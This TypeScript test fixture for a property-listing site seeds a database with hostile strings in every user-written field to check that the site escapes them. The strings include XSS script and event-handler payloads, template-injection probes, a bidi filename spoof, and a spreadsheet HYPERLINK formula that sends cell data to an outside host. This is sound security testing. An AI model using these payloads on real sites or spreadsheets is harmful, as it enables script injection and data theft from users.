import { getTableColumns, sql } from 'drizzle-orm';
import type { SQLiteTable } from 'drizzle-orm/sqlite-core';

import {
  leadEvents,
  leads,
  profiles,
  properties,
  propertyDrafts,
  propertyPhotos,
  propertyTags,
  units,
} from '~/db/schema';

import { siteDatabase } from '../database/database';
import { call, elsewhere, hostileAddresses } from './vectors';
import { newAccount } from '../accounts/sign-in-as';

/** Texts that try to break out of where they are shown, by kind. */
export const hostileTexts = {
  markup: `"><script>${call}</script><img src=gone onerror=${call}>' onmouseover=${call} x='`,
  templates: `</script></textarea></title><!--{{7*7}}\${7*7}<%=7*7%>\u202ecod.exe\u2066 &#x3c;b&#x3e;`,
  formulas: `=HYPERLINK("${elsewhere}?"&A1,"x")\t+1-1@sum|javascript:top.__hostile=2//`,
  length: 'W'.repeat(10_000),
};

const { length, ...short } = hostileTexts;

/** The short texts joined into one, in which the watch still detects what has run, and the long text. */
export const joinedTexts = { 'what breaks out': Object.values(short).join(' '), 'what is long': length };

/** Columns that follow from others, refer to another row, or contain our own words. */
const kept = new Set([
  'id',
  'slug',
  'owner_id',
  'user_id',
  'author_id',
  'actor_id',
  'lead_id',
  'job_id',
  'storage_key',
  'submission_key',
  'content_key',
  'received_on',
  'placeholder',
  'location_slug',
  'place_slug',
]);

/** Every text column that people write, each with that text; columns of addresses with addresses. */
function textsOf(table: SQLiteTable, text: string): object {
  const columns = Object.entries(getTableColumns(table)).filter(
    ([, { name, dataType, enumValues, generated }]) =>
      dataType === 'string' && !enumValues?.length && !generated && !kept.has(name),
  );
  return Object.fromEntries(
    columns.map(([property, { name }], index) => [
      property,
      name.endsWith('_url') ? hostileAddresses[(index + text.length) % hostileAddresses.length] : text,
    ]),
  );
}

/**
 * An owner with this one text everywhere: profile, a public property with units, tags and photos, a rejected
 * draft, a lead with a note and a reply. Written into the database directly, past the rules of the forms.
 */
export async function addHostileListing(text: string) {
  const db = await siteDatabase();
  const owner = await newAccount('hostile');
  const slug = `hostile-${owner.profileId}`;
  const ownerTexts = { ...textsOf(profiles, text), email: owner.email };
  await db
    .update(profiles)
    .set(ownerTexts)
    .where(sql`id = ${owner.profileId}`);
  const [property] = await db
    .insert(properties)
    .values({
      ...textsOf(properties, text),
      name: text,
      address: text,
      slug,
      propertyType: 'hotel',
      locationSlug: 'glenelg',
      placeSlug: 'glenelg',
      minPrice: 100,
      ownerId: owner.profileId,
      isApproved: true,
      isPublished: true,
    })
    .returning({ id: properties.id });
  const propertyId = property?.id ?? 0;
  await db.insert(units).values({ propertyId, name: text, ...textsOf(units, text) });
  await db.insert(propertyTags).values({ propertyId, tag: text });
  await db.run(
    sql`insert into ${propertyPhotos} (property_id, storage_key, alt_text, width, height, placeholder)
      select ${propertyId}, storage_key, ${text}, width, height, placeholder from ${propertyPhotos}
      where property_id = (select property_id from ${propertyPhotos} order by id limit 1) limit 2`,
  );
  const [draft, lead] = [crypto.randomUUID(), crypto.randomUUID()];
  await db.insert(propertyDrafts).values({
    id: draft,
    propertyId,
    baseVersion: 1,
    status: 'rejected',
    rejectionReason: text,
    data: draftOf(`${text.slice(0, 9_999)}!`, slug),
  });
  await db
    .insert(leads)
    .values({ ...textsOf(leads, text), name: text, email: text, id: lead, propertyId, contentKey: lead });
  await db.insert(leadEvents).values([
    { leadId: lead, kind: 'note', text },
    { leadId: lead, kind: 'reply', text, subject: text },
  ]);
  return { owner, slug, propertyId, draft, lead };
}

/** The property's texts, all changed, so that each appears among the differences. */
function draftOf(text: string, slug: string) {
  const nothing = { latitude: null, longitude: null, starRating: null, minPrice: 100, maxPrice: null };
  return {
    ...textsOf(properties, text),
    slug,
    propertyType: 'motel',
    locationSlug: 'glenelg',
    placeSlug: 'glenelg',
    currency: 'AUD',
    ...nothing,
    nearAirport: false,
    amenities: [],
    tags: [text],
    units: [{ name: text, description: text, maxGuests: 2, bedConfiguration: text }],
  };
}
